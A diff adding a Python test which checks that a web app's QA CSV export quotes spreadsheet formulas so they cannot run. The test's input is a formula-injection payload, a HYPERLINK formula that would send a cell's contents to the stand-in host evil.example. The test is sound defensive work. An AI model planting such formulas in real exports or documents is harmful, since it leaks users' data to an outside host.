@@ -657,3 +657,18 @@ def test_no_page_has_inline_script_handlers_or_style_attributes(app, db):
     templates = Path(__file__).resolve().parents[2] / "web" / "templates"
     for template in templates.glob("*.html"):
         assert not re.search(r"\son\w+=|\sstyle=|<script(?![^>]*\ssrc=)|javascript:", template.read_text()), template
+
+
+def test_qa_csv_export_cells_cannot_run_as_formulas(app, db):
+    from pipeline.config.datafiles import read_json
+
+    sample_id, call_id = sample_ids(db)
+    client = client_as(app, "quinn")
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
+    r = client.post(f"/api/qa/{sample_id}/{call_id}", headers={"X-CSRF-Token": csrf_of(client)},
+                    json={"scores": {i["id"]: "pass" for i in read_json("qa_scorecard.json")["items"]}, "comment": formula})
+    assert r.status_code == 200
+    export = client.get(f"/qa/export/{sample_id}.csv")
+    quinn = next(r for r in csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))) if r["reviewer"] == "quinn")
+    assert quinn["comment"] == "'" + formula and quinn["greeting"] == "pass"
+    assert query(db, "SELECT comment FROM qa_reviews")[0][0] == formula  # stored as typed; quoted only in the CSV
